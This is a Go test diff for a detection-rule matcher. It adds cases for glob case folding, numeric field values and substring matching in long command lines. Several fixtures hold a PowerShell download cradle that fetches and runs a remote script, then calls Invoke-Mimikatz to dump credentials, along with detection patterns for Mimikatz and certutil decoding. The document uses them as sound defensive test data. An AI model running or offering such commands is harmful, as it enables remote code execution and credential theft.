@@ -147,6 +147,27 @@ func TestModifiers(t *testing.T) {
 		{"keyword all", "k:\n    '|all':\n        - raw\n        - line\ncondition: k", ev(parse.Event{}), true},
 		{"keyword all missing", "k:\n    '|all':\n        - raw\n        - nope\ncondition: k", ev(parse.Event{}), false},
 		{"keyword re", "k:\n    '|re': '^raw l'\ncondition: k", ev(parse.Event{}), true},
+		// Globs (with ?, or not ASCII) are found without the regular
+		// expression only where that cannot change the answer: (?i)
+		// matches k as the Kelvin sign and s as the long s.
+		{"question, kelvin sign", "s:\n    query: 'a?kk'\ncondition: s", q("ab\u212a\u212a"), true},
+		{"question, long s", "s:\n    query: 'a?ss'\ncondition: s", q("ab\u017fS"), true},
+		{"question, other", "s:\n    query: 'a?kz'\ncondition: s", q("abk"), false},
+		{"not ascii contains", "s:\n    CommandLine|contains: '\u2013Decode '\ncondition: s", ev(parse.Event{"process.command_line": "certutil \u2013DECODE x"}), true},
+		{"not ascii contains, other dash", "s:\n    CommandLine|contains: '\u2013decode '\ncondition: s", ev(parse.Event{"process.command_line": "certutil \u2014decode x"}), false},
+		{"cased question", "s:\n    query|cased: 'A?c'\ncondition: s", q("Abc"), true},
+		{"cased question, case", "s:\n    query|cased: 'A?c'\ncondition: s", q("abc"), false},
+		// Numbers written otherwise in the field.
+		{"number, leading zero", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": "08080"}), true},
+		{"number, decimal", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": "8080.0"}), true},
+		{"number, other integer", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": "8081"}), false},
+		// Long values, whose grams rule substrings out.
+		{"contains in a long value", "s:\n    CommandLine|contains: 'invoke-mimikatz'\ncondition: s",
+			ev(parse.Event{"process.command_line": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/x.ps1'); Invoke-Mimikatz -DumpCreds"`}), true},
+		{"contains in a long value, none", "s:\n    CommandLine|contains: 'invoke-mimikatz'\ncondition: s",
+			ev(parse.Event{"process.command_line": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/x.ps1'); Invoke-Kerberoast"`}), false},
+		{"segments in a long value", "s:\n    CommandLine|contains: 'net*download'\ncondition: s",
+			ev(parse.Event{"process.command_line": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/x.ps1')"`}), true},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -157,8 +178,19 @@ func TestModifiers(t *testing.T) {
 			if got := r.Match(c.ev); got != c.want {
 				t.Errorf("Match = %v, want %v", got, c.want)
 			}
+			if got := matchPrepared(r, c.ev); got != c.want {
+				t.Errorf("MatchPrepared = %v, want %v", got, c.want)
+			}
 		})
 	}
+}
+
+// matchPrepared matches ev as the pipeline does: through a Prepared
+// event.
+func matchPrepared(r *Compiled, ev *Event) bool {
+	p := NewPrepared(r.FieldSet())
+	p.Reset(*ev)
+	return r.InScopePrepared(p) && r.MatchPrepared(p)
 }
 
 // TestModifierErrors: a rule that Vigil cannot run is refused naming the
